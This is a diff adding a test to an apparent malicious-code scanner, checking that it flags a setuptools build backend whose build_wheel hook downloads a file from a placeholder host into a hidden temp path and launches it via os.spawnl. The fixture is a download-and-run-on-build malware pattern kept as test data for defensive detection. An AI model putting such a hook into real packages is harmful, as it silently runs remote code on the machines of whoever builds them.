@@ -107,3 +107,35 @@ def test_ts_config_runs_joined_base64_segments_through_a_cast_global(tmp_path: P
         "export default { define: { __BANNER__: JSON.stringify(banner) } };\n"
     )
     assert not blocked(tmp_path / "b", {"template/vite.config.ts": good})
+
+
+# ---------------------------------------------------------------- os.spawn*: the program is the second argument
+
+
+_BACKEND = """import os
+import tempfile
+import urllib.request
+
+from setuptools import build_meta as _orig
+from setuptools.build_meta import *  # noqa: F401,F403
+
+
+def _prepare(tag):
+    url = f"https://dl.example.invalid/{tag}"
+    dst = os.path.join(tempfile.gettempdir(), ".cache-" + tag)
+    urllib.request.urlretrieve(url, dst)
+    os.spawnl(os.P_NOWAIT, PROGRAM)
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    _prepare("x")
+    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
+"""
+
+
+def test_spawn_family_runs_the_downloaded_file(tmp_path: Path) -> None:
+    bad = _BACKEND.replace("PROGRAM", 'dst, dst, "--daemon"')
+    assert "SY-FLOW-002" in blocked(tmp_path / "a", {"_build/backend.py": bad})
+    # the download is data handed to a program the system has
+    good = _BACKEND.replace("PROGRAM", '"/usr/bin/unzip", "unzip", "-q", dst')
+    assert not blocked(tmp_path / "b", {"_build/backend.py": good})
